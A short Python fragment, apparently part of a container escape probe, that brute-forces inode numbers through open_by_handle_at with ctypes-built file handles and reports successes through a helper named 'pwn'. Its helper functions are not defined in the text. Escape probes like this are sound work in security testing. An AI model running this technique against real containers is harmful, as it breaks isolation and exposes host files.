"""Open a file by the number of its inode."""

import ctypes

for number in range(1, 200):
    handle = ctypes.create_string_buffer(8 + 128)
    header = (ctypes.c_uint * 4).from_buffer(handle)
    header[0], header[1], header[2], header[3] = 8, 1, number, 0
    for base in (-100, 0, 1):
        if works(call, "open_by_handle_at", base, ctypes.addressof(handle), 0):
            pwn(f"opened inode {number}")
